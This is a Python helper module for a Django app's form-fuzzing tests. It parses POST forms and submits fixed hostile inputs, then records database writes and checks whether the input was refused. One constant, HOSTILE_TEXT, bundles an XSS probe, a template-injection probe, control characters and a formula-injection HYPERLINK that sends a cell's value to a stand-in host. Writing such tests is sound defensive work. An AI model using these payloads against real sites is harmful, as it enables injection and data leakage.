"""Hostile form posts for ``supervisione/tests/test_fuzz_forms.py``: the forms a page shows, what a browser would
send for them, the hostile values to send instead, and the writes a request made.

A page's forms are read from its HTML as a browser reads them (``method="post"`` only: GET forms are filters,
which the URL matrix sends junk to). For each field the browser's value is the starting point; empty fields of
a creation form get a plausible value of their type, so that one hostile field at a time meets an otherwise
valid form and reaches as deep as a real user's input would (the save, the database). The hostile values are
few per type and always the same, so that the test is bounded and repeatable.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urljoin, urlsplit

from django.db import connection

# Inputs a user types into, by the kind of value the server expects.
TEXT_TYPES = {"text", "search", "email", "url", "tel", "password", "textarea", "hidden", "color"}
NUMBER_TYPES = {"number", "range"}
DATE_TYPES = {"date", "month", "week", "datetime-local"}
SKIPPED_TYPES = {"submit", "button", "reset", "image", "file"}
# Fields whose value the server generates and checks (the CSRF test covers a missing or wrong token).
UNTOUCHED = {"csrfmiddlewaretoken"}

LONG = "x" * 100_000
NUL = "a\x00b"
# Control characters (an escape sequence, a bell, DEL, a right-to-left override), markup and a formula at once.
HOSTILE_TEXT = '=HYPERLINK("http://x.invalid/"&A1)\x01\x07\x1b[31m\x7f\u202e<script>alert(1)</script>"\'><b>{{ 7*7 }}'
HUGE = "99999999999999999999999"

# Sent to every field of a form at once, one round per post, each field a value of its kind: what makes the
# cleaning of any single field fail (each field is cleaned apart, so one post probes them all).
ALL_AT_ONCE = {
    "text": [HOSTILE_TEXT, LONG, NUL],
    "number": ["-" + HUGE, "NaN", "1e400"],
    "date": ["31/02/2023", "99999-01-01", NUL],
    "time": ["25:61", "99:99:99", NUL],
    "choice": ["-" + HUGE, NUL, HOSTILE_TEXT],
    "check": ["-" + HUGE, NUL, "on"],  # a list of checkboxes sends the keys of records
}
ROUNDS = 3
# Sent to one field at a time, the others valid: values a field may accept and pass on to the save and the
# database (what a field refuses by itself, the all-at-once posts reach already: each field is cleaned apart).
ONE_AT_A_TIME = {
    "text": [LONG, HOSTILE_TEXT],
    "number": [HUGE, "-1"],
    "date": ["0001-01-01", "9999-12-31"],
    "time": [],
    "choice": [],
    "check": [],
}
# Plausible values for empty fields of a creation form.
PLAUSIBLE = {
    "text": "Prova",
    "email": "prova@example.it",
    "url": "https://example.it/",
    "tel": "0836 123456",
    "password": "una-password-di-prova-lunga",
    "number": "1",
    "date": "2026-03-02",
    "time": "10:00",
    "month": "2026-03",
}


@dataclass
class Field:
    name: str
    kind: str  # input type, "textarea", "select", "select-multiple"
    value: str = ""
    options: list[str] = field(default_factory=list)
    checked: bool = False

    @property
    def family(self) -> str:
        if self.kind in NUMBER_TYPES or (self.kind == "hidden" and self.value.isdigit()):
            return "number"
        if self.kind in DATE_TYPES:
            return "date"
        if self.kind == "time":
            return "time"
        if self.kind.startswith("select") or self.kind == "radio":
            return "choice"
        if self.kind == "checkbox":
            return "check"
        return "text"


@dataclass
class Form:
    action: str
    multipart: bool
    fields: list[Field] = field(default_factory=list)
    button: tuple[str, str] | None = None

    @property
    def names(self) -> tuple[str, ...]:
        return tuple(sorted({f.name for f in self.fields if f.name not in UNTOUCHED}))

    def browser_data(self) -> dict[str, list[str]]:
        """What a browser sends for the form as shown, empty fields given a plausible value."""
        data: dict[str, list[str]] = {}
        for item in self.fields:
            if item.name in UNTOUCHED:
                continue
            if item.kind in {"checkbox", "radio"}:
                if item.checked:
                    data.setdefault(item.name, []).append(item.value or "on")
                elif (
                    item.kind == "radio"
                    and item.name not in data
                    and not any(other.checked for other in self.fields if other.name == item.name)
                ):
                    data[item.name] = [item.value]
                continue
            if item.kind.startswith("select"):
                chosen = item.value or next((option for option in item.options if option), "")
                data.setdefault(item.name, []).append(chosen)
                continue
            value = item.value
            if not value and item.kind != "hidden":
                value = PLAUSIBLE.get(item.kind, PLAUSIBLE.get(item.family, "Prova"))
            data.setdefault(item.name, []).append(value)
        if self.button is not None:
            data.setdefault(self.button[0], [self.button[1]])
        return data

    def families(self) -> dict[str, str]:
        """Each field's name and the kind of value it takes (one per name)."""
        kinds: dict[str, str] = {}
        for item in self.fields:
            if item.name not in UNTOUCHED:
                kinds.setdefault(item.name, item.family)
        return kinds


class FormParser(HTMLParser):
    """The ``method="post"`` forms of a page, with their fields as a browser would see them."""

    def __init__(self, page_url: str) -> None:
        super().__init__(convert_charrefs=True)
        self.page_url = page_url
        self.forms: list[Form] = []
        self._form: Form | None = None
        self._select: Field | None = None
        self._option: str | None = None
        self._option_text = ""
        self._textarea: Field | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {key: value or "" for key, value in attrs}
        if tag == "form":
            if a.get("method", "get").lower() == "post":
                action = urljoin(self.page_url, a.get("action") or self.page_url)
                self._form = Form(action, a.get("enctype", "") == "multipart/form-data")
            else:
                self._form = None
            return
        form = self._form
        if form is None or "disabled" in a:
            return
        name = a.get("name", "")
        if tag == "input" and name:
            kind = a.get("type", "text").lower()
            if kind in SKIPPED_TYPES:
                if kind == "submit" and form.button is None:
                    form.button = (name, a.get("value", ""))
                return
            form.fields.append(Field(name, kind, a.get("value", ""), checked="checked" in a))
        elif tag == "button" and name and a.get("type", "submit").lower() == "submit" and form.button is None:
            form.button = (name, a.get("value", ""))
        elif tag == "select" and name:
            self._select = Field(name, "select-multiple" if "multiple" in a else "select")
            form.fields.append(self._select)
        elif tag == "option" and self._select is not None:
            self._option = a.get("value")
            self._option_text = ""
            if "selected" in a:
                self._select.checked = True
                self._select.value = a.get("value", "")
        elif tag == "textarea" and name:
            self._textarea = Field(name, "textarea")
            form.fields.append(self._textarea)

    def handle_data(self, data: str) -> None:
        if self._textarea is not None:
            self._textarea.value += data
        if self._select is not None:
            self._option_text += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            if self._form is not None:
                self.forms.append(self._form)
            self._form = None
        elif tag == "option" and self._select is not None:
            self._select.options.append(self._option if self._option is not None else self._option_text.strip())
            if self._select.checked and self._option is None and not self._select.value:
                self._select.value = self._option_text.strip()
            self._option = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None


def post_forms(page: str, page_url: str) -> list[Form]:
    """The page's POST forms that have something to type into."""
    parser = FormParser(page_url)
    parser.feed(page)
    parser.close()
    return [form for form in parser.forms if form.names]


def all_at_once(form: Form) -> list[tuple[str, dict[str, list[str]]]]:
    """(what was sent, the data): every field hostile at once, one post per round of ``ALL_AT_ONCE``."""
    families = form.families()
    return [
        (
            f"all fields hostile (round {round_ + 1})",
            {name: [ALL_AT_ONCE[family][round_]] for name, family in families.items()} | _button(form),
        )
        for round_ in range(ROUNDS)
    ]


def one_at_a_time(form: Form) -> list[tuple[str, dict[str, list[str]]]]:
    """(what was sent, the data): the browser's data with one field hostile."""
    base = form.browser_data()
    return [
        (f"{name} = {value[:20]!r}", {**base, name: [value]})
        for name, family in form.families().items()
        for value in ONE_AT_A_TIME[family]
    ]


def _button(form: Form) -> dict[str, list[str]]:
    return {form.button[0]: [form.button[1]]} if form.button else {}


def path_of(url: str) -> str:
    parts = urlsplit(url)
    return parts.path + (f"?{parts.query}" if parts.query else "")


_WRITE = re.compile(r"^\s*(INSERT|UPDATE|DELETE|REPLACE)\b", re.IGNORECASE)
# Tables a request may write whatever it is asked: the session (saved at every request) and the login
# throttling records (a failed login is recorded by design).
_ALWAYS_WRITTEN = ("django_session", "axes_")


class Statements:
    """The statements run on the database while a ``capture()`` is open, with their parameters.

    Recorded as Django sends them, by an execute wrapper: ``CaptureQueriesContext`` would turn on the debug
    cursor, which on SQLite runs one more query for each to quote its parameters, and doubled the queries of
    every request of the form fuzzing."""

    def __init__(self) -> None:
        self.captured_queries: list[dict[str, Any]] = []

    def __call__(self, execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
        self.captured_queries.append({"sql": sql, "params": params})
        return execute(sql, params, many, context)


def writes(queries: Statements) -> list[str]:
    """The statements of a request that changed the application's data."""
    found = []
    for query in queries.captured_queries:
        sql = query["sql"]
        if _WRITE.match(sql) and not any(f'"{table}' in sql[:80] for table in _ALWAYS_WRITTEN):
            found.append(f"{sql[:160]} {str(query['params'])[:120]}")
    return found


@contextmanager
def capture() -> Iterator[Statements]:
    statements = Statements()
    with connection.execute_wrapper(statements):
        yield statements


ERROR_MARKERS = ("error-summary", "invalid-feedback", "is-invalid")


def refused(status: int, page: str) -> bool:
    """Whether the answer says the input was not taken: an error status, or the form again with its errors."""
    if status in {400, 403, 404, 405, 409, 413, 429}:
        return True
    return status == 200 and any(marker in page for marker in ERROR_MARKERS)
